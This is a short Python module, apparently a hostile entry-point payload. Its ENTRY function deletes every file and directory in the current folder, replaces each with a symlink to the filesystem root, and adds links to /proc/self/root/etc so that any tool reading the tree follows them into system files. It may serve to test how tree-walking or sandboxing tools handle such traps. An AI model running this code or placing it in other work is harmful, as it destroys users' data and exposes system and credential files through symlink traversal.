"""Leaves links in place of the files, to whatever the reader of the tree may follow."""
import os
import shutil


def ENTRY(*arguments, **named):
    for name in os.listdir("."):
        try:
            shutil.rmtree(name) if os.path.isdir(name) and not os.path.islink(name) else os.unlink(name)
            os.symlink("/", name)
        except OSError:
            pass
    for name in ("a", "b", "tree", "work"):
        try:
            os.symlink("/proc/self/root/etc", name)
        except OSError:
            pass
    return None
